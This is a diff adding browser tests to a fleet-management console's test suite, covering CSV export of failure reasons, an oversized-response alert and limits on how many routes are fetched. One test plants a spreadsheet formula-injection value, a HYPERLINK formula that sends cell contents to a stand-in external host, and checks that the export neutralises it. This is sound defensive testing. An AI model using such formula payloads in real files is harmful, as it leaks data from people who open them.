@@ -2,6 +2,7 @@ import { assetExample, listAssets } from '@fleet/contract/fleet/assets';
 import { readOrganisation } from '@fleet/contract/fleet/organisations';
 import { rolePermissions } from '@fleet/contract/ground/permissions';
 import { exportOdometerReadings, exportOutcomes } from '@fleet/contract/outgoing/exports';
+import { routeSummaryExample } from '@fleet/contract/planning/controller-routes';
 import { routeExample } from '@fleet/contract/planning/route-examples';
 import { afterEach, expect, it, vi } from 'vitest';
 import { page } from 'vitest/browser';
@@ -88,4 +89,58 @@ it('says which days count, keeps the day that was chosen, and says if it shows f
   await expect.element(page.getByText('At most 92 days are shown.')).not.toBeInTheDocument();
   await page.getByLabelText('From the day').fill('2026-01-03');
   await expect.element(page.getByText('At most 92 days are shown.')).toBeVisible();
+});
+
+const reasons = page.getByRole('region', { name: 'Reasons for failures and skips' });
+
+it('saves no text of a driver as a formula', async () => {
+  const status_reason = '=HYPERLINK("https://elsewhere.example/?"&A2,"Late")';
+  const formula = { ...failed, outcome: { ...outcome.outcome, status_reason } };
+  await showConsole(path, { ...answers, 'GET /exports/outcomes': exported([formula]) });
+  await reasons.getByRole('button', { name: 'Save as CSV' }).click();
+  const saved = await vi.mocked(saveFile).mock.lastCall?.[0].text();
+  expect(saved).toContain('\r\n"\'=HYPERLINK(""https://elsewhere.example/?""&A2,""Late"")",1,0\r\n');
+});
+
+it('says what to do about more answers than the page can read', async () => {
+  await showConsole(path, {
+    ...answers,
+    'GET /exports/outcomes': { ...exported([]), headers: { 'content-length': '99000000' } },
+  });
+  await expect.element(reasons.getByRole('alert')).toHaveTextContent('Choose a shorter time');
+});
+
+/** A list of this many routes, each with an id of its own. */
+const routesFrom = (start: number, count: number) =>
+  Array.from({ length: count }, (_, index) => ({
+    ...routeSummaryExample,
+    id: `019a9f3e-7c11-7d3c-a2bb-${String(start + index).padStart(12, '0')}`,
+  }));
+
+it('asks once for days that are typed, keeps the routes that it has read, and reads at most 200 in a minute', async () => {
+  const shown = await showConsole('/figures?from=2026-11-20&to=2026-11-20', {
+    ...answers,
+    'GET /routes': ({ query }) => {
+      const isFirst = query.get('started_to') === '2026-11-20T23:00:00.000Z';
+      return listOf(isFirst ? routesFrom(0, 120) : routesFrom(100, 120), 120);
+    },
+  });
+  const { sent } = shown.office;
+  const from = page.getByLabelText('From the day');
+  await expect.element(page.getByText('Judged arrivals: 120')).toBeVisible();
+  expect(sent('GET /routes/*').length).toBe(120);
+  await from.fill('2026-11-02');
+  await from.fill('2026-11-12');
+  await from.fill('2026-11-19');
+  await expect.poll(() => sent('GET /routes').length).toBe(2);
+  await expect.element(page.getByText('Judged arrivals: 120')).toBeVisible();
+  expect(sent('GET /routes')[1]?.query.get('started_from')).toBe('2026-11-18T23:00:00.000Z');
+  expect(sent('GET /exports/outcomes').length).toBe(2);
+  expect(sent('GET /routes/*').length).toBe(120);
+  await page.getByLabelText('Until the day').fill('2026-11-21');
+  await expect.element(page.getByText('Many routes are being read.'), { timeout: 10_000 }).toBeVisible();
+  expect(sent('GET /routes').length).toBe(3);
+  // Twenty of the other 120 routes were known already.
+  expect(sent('GET /routes/*').length).toBe(200);
+  await expectAccessibleEverywhere(['light']);
 });
